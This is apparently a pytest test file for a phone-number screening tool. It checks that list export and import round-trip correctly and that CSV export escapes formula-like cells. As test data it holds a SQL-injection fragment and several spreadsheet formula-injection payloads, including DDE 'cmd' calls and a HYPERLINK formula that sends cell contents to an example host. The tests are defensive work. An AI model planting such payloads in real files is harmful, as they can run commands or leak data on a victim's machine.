"""Export writes what import reads: round trips on both backends, in both formats."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from screener.csv_safety import FORMULA_STARTS, safe_cell, unescape_cell
from screener.db.lifecycle import Database
from screener.db.models import ListEntry
from screener.domain.model import Actor
from screener.domain.numbers import NumberAnalyser
from screener.domain.vocabulary import ListKind
from screener.lists import repo as lists_repo
from screener.lists.export import ExportFormat, date_text, export_entries
from screener.lists.import_reader import EntryReader, ImportFormat, RejectionLog
from screener.lists.importer import import_entries
from screener.settings import Settings

GB = NumberAnalyser("GB")

HOSTILE_LABEL = 'Acme, "Ltd"; DROP TABLE lists;--\nsecond line\t\u00e9\u4e2d'


async def fill(database: Database) -> None:
    async with database.sessions.begin() as session:
        source = await lists_repo.create_list(session, "source", ListKind.NUISANCE)
        entries = [
            lists_repo.EntryInput("020 7946 0018", HOSTILE_LABEL, "a note, with comma", "ofcom"),
            lists_repo.EntryInput(
                "07700 900123",
                valid_from=datetime(2026, 1, 1, tzinfo=UTC),
                expires_at=datetime(2027, 6, 30, 17, 45, 12, tzinfo=UTC),
            ),
            lists_repo.EntryInput("0161 496*", "Prefix range"),
            lists_repo.EntryInput("+1 202 555 0143", "=cmd|' /C calc'!A0"),
        ]
        for entry in entries:
            await lists_repo.add_entry(session, GB, source, entry, "test")


async def export(database: Database, name: str, format: ExportFormat, page: int = 2) -> str:
    out = io.StringIO()
    async with database.sessions() as session:
        found = await lists_repo.require_list(session, name)
        count = await export_entries(session, found, out, format, page_rows=page)
    assert count == 4
    return out.getvalue()


async def snapshot(
    database: Database, name: str, with_details: bool = True
) -> list[tuple[object, ...]]:
    async with database.sessions() as session:
        found = await lists_repo.require_list(session, name)
        columns = [ListEntry.value, ListEntry.is_prefix]
        if with_details:
            columns += [
                ListEntry.label,
                ListEntry.note,
                ListEntry.source,
                ListEntry.valid_from,
                ListEntry.expires_at,
            ]
        rows = await session.execute(
            select(*columns).where(ListEntry.list_id == found.id).order_by(ListEntry.value)
        )
        return [tuple(row) for row in rows]


async def reimport(settings: Settings, database: Database, data: str, format: ImportFormat) -> None:
    async with database.sessions.begin() as session:
        await lists_repo.create_list(session, "copy", ListKind.NUISANCE)
    log = RejectionLog()
    reader = EntryReader(io.BytesIO(data.encode()), GB, log, format)
    stats = (await import_entries(database, Actor.cli("test"), "copy", reader)).stats
    assert stats.applied and log.total == 0, log.kept
    assert stats.added == 4


async def test_csv_round_trip_gives_identical_entries(
    database: Database, settings: Settings
) -> None:
    await fill(database)
    data = await export(database, "source", ExportFormat.CSV)
    assert data.splitlines()[0] == "number,label,note,source,valid_from,expires_at"
    assert "+44161496*,Prefix range" in data
    assert ",2026-01-01,2027-06-30T17:45:12+00:00" in data
    await reimport(settings, database, data, ImportFormat.AUTO)
    assert await snapshot(database, "copy") == await snapshot(database, "source")


async def test_text_round_trip_gives_identical_numbers(
    database: Database, settings: Settings
) -> None:
    await fill(database)
    data = await export(database, "source", ExportFormat.TEXT, page=3)
    lines = data.splitlines()
    assert lines[0].startswith("# list source: nuisance, block; exported ")
    assert lines[1:] == ["+442079460018", "+447700900123", "+44161496*", "+12025550143"]
    await reimport(settings, database, data, ImportFormat.TEXT)
    copy = await snapshot(database, "copy", with_details=False)
    assert copy == await snapshot(database, "source", with_details=False)


async def test_export_of_an_empty_list(database: Database) -> None:
    async with database.sessions.begin() as session:
        empty = await lists_repo.create_list(session, "empty", ListKind.CONTACTS)
    out = io.StringIO()
    async with database.sessions() as session:
        assert await export_entries(session, empty, out) == 0
    assert out.getvalue() == "number,label,note,source,valid_from,expires_at\n"


def test_date_text() -> None:
    assert date_text(None) == ""
    assert date_text(datetime(2026, 3, 1, tzinfo=UTC)) == "2026-03-01"
    assert date_text(datetime(2026, 3, 1, 0, 0, 1, tzinfo=UTC)) == "2026-03-01T00:00:01+00:00"


# -- spreadsheet formulas ----------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''=twice",
    "'plain apostrophe",
    "+44 20 7946 0018 (not a bare number)",
]


async def fill_hostile(database: Database) -> None:
    async with database.sessions.begin() as session:
        source = await lists_repo.create_list(session, "source", ListKind.NUISANCE)
        numbers = ["020 7946 0018", "07700 900123", "0161 496*", "+1 202 555 0143"]
        for i, number in enumerate(numbers):
            entry = lists_repo.EntryInput(
                number,
                label=FORMULAS[2 * i],
                note=FORMULAS[2 * i + 1],
                source=FORMULAS[(2 * i + 2) % len(FORMULAS)],
            )
            await lists_repo.add_entry(session, GB, source, entry, "test")


async def test_csv_export_cells_never_start_a_formula_and_numbers_stay_numbers(
    database: Database, settings: Settings
) -> None:
    await fill_hostile(database)
    data = await export(database, "source", ExportFormat.CSV)
    rows = list(csv.reader(io.StringIO(data)))
    assert len(rows) == 5
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(
                r"\+[0-9]+\*?", cell
            ), cell
    # The number column holds E.164 numbers and prefixes exactly as stored.
    assert [row[0] for row in rows[1:]] == [
        "+442079460018",
        "+447700900123",
        "+44161496*",
        "+12025550143",
    ]
    assert rows[1][1] == "'" + FORMULAS[0]
    assert ",''=already quoted," in data and "'''=twice" in data
    # And the importer reads back exactly what was exported.
    await reimport(settings, database, data, ImportFormat.CSV)
    assert await snapshot(database, "copy") == await snapshot(database, "source")


@given(st.text(max_size=30))
def test_safe_cells_read_back_exactly_and_never_start_a_formula(cell: str) -> None:
    written = safe_cell(cell)
    assert unescape_cell(written) == cell
    if written[:1] in FORMULA_STARTS:
        assert re.fullmatch(r"\+[0-9]+\*?", written)


@given(st.from_regex(r"\A\+[0-9]{1,15}\*?\Z"))
def test_phone_numbers_are_written_as_they_are(number: str) -> None:
    assert safe_cell(number) == number


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+447700900123", "+447700900123"),
        ("+44161496*", "+44161496*"),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("+44161496**", "'+44161496**"),
        ("'=1", "''=1"),
        ("'tis", "'tis"),
        ("Acme", "Acme"),
        ("", ""),
    ],
)
def test_the_formula_rule(cell: str, written: str) -> None:
    assert safe_cell(cell) == written
